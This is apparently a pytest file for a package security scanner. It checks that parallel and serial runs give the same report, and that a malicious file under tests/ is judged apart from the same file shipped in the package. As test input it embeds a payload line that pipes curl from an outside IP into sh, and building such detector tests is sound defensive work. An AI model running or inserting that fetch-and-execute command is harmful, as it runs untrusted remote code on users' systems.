from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from builders import tar_bytes, write, zip_bytes
from finalexam.analyze.base import Analysis, ExamState
from finalexam.config import Config
from finalexam.exam import run_exam
from finalexam.model import Evidence, FileEntry, Finding, FindingKind, Severity
from finalexam.report.base import RenderOptions
from finalexam.report.json import JsonReporter


class MarkerAnalyzer:
    """Reports every line containing MARKER; fails on purpose on files named boom.txt."""

    name = "marker"

    def __init__(self, config: Config) -> None:
        self.config = config

    def accepts(self, entry: FileEntry) -> bool:
        return entry.name.endswith(".txt")

    def analyze(self, entry: FileEntry) -> Analysis:
        if entry.name == "boom.txt":
            raise RuntimeError("cannot parse")
        findings = [
            Finding(
                kind=FindingKind.BEHAVIOR,
                rule_id="marker",
                severity=Severity.LOW,
                title="marker",
                message="marker line",
                location=entry.location,
                found_by=self.name,
                evidence=Evidence(line=number),
            )
            for number, line in enumerate(bytes(entry.data).splitlines(), 1)
            if b"MARKER" in line
        ]
        return Analysis(findings=findings)

    def finish(self, state: ExamState) -> Analysis:
        return Analysis()


def _render(target: Path, jobs: int) -> bytes:
    config = replace(Config(), jobs=jobs, timestamp="2024-01-01T00:00:00Z")
    report = run_exam(target, config, analyzers=(MarkerAnalyzer,))
    return JsonReporter().render(report, RenderOptions(timestamp=config.timestamp))


def test_parallel_analysis_gives_the_same_report(tmp_path: Path) -> None:
    members = {f"dir{i % 7}/f{i}.txt": f"a\nMARKER {i}\nb\n" * (1 + i % 3) for i in range(120)}
    members["dir0/boom.txt"] = "MARKER"
    members["same/copy.txt"] = members["dir1/f1.txt"]  # identical content, analysed once
    target = write(tmp_path / "many.zip", zip_bytes({"inner.tar": tar_bytes(members)}))
    serial = _render(target, 1)
    assert b"marker failed: RuntimeError: cannot parse" in serial
    assert b"many.zip!/inner.tar!/same/copy.txt" in serial
    assert serial == _render(target, 2)


def test_a_copy_under_tests_does_not_lend_its_verdict_to_the_library(tmp_path: Path) -> None:
    """The same bytes under tests/ (test context: reported, not blocking) and in the package
    (shipped): each location is judged on its own, whatever comes first in the walk."""
    payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
    members = {"pkg-1.0/tests/a_boot.py": payload, "pkg-1.0/pkg/__init__.py": payload}
    target = write(tmp_path / "pkg-1.0.tar", tar_bytes(members))
    for jobs in (1, 2):
        report = run_exam(target, replace(Config(), jobs=jobs))
        contexts = {}
        for finding in report.findings:
            if finding.location is not None and finding.kind.value in ("behavior", "malicious"):
                assert finding.severity.rank >= Severity.HIGH.rank
                contexts[finding.location.path] = finding.context
        assert contexts == {"pkg-1.0/pkg/__init__.py": "shipped", "pkg-1.0/tests/a_boot.py": "test"}
        blocked = " ".join(v.message for v in report.verdict.violations)
        assert "pkg/__init__.py" in blocked and "a_boot.py" not in blocked
